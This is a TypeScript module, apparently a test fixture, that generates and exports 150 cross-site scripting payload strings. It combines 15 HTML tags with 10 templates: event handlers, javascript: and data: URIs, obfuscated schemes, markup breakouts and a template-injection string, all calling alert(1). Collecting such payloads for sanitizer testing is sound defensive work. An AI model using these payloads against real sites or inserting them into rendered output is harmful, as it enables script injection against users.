// Texts that would run, or lead away, where somebody took them for markup: the same tricks in several dresses, 150 in all.
const tags = [
  'script',
  'img',
  'svg',
  'iframe',
  'object',
  'embed',
  'video',
  'details',
  'math',
  'form',
  'base',
  'meta',
  'link',
  'style',
  'a',
]
const dresses = [
  (tag: string) => `<${tag} src=x onerror=alert(1)>`,
  (tag: string) => `<${tag.toUpperCase()}/onload=alert(1)//>`,
  (tag: string) => `"><${tag} onmouseover="alert(1)" href="javascript:alert(1)">x</${tag}>`,
  (tag: string) => `'><${tag} href=' javascript:alert(1)' style='background:url(javascript:alert(1))'>x`,
  (tag: string) => `<p><${tag} srcdoc="<script>alert(1)</script>" data="data:text/html,<script>alert(1)</script>"></p>`,
  (tag: string) => `<<${tag}>${tag}>alert(1)<</${tag}>/${tag}>`,
  (tag: string) => `<!--><${tag} onfocus=alert(1) autofocus>-->`,
  (tag: string) =>
    `<a href="java&#115;cript:alert('${tag}')">x</a><${tag} xlink:href="data:text/html;base64,PHNjcmlwdD4=">`,
  (tag: string) => `&lt;${tag} onerror=alert(1)&gt;<${tag}\tformaction=javascript:alert(1)\u00A0onclick=alert(1)>`,
  (tag: string) =>
    `</title></textarea></noscript><${tag} onpointerenter=alert(1)>\`\${alert(1)}\`{{constructor.constructor('alert(1)')()`,
]

export const markupPayloads: readonly string[] = tags.flatMap((tag) => dresses.map((dress) => dress(tag)))
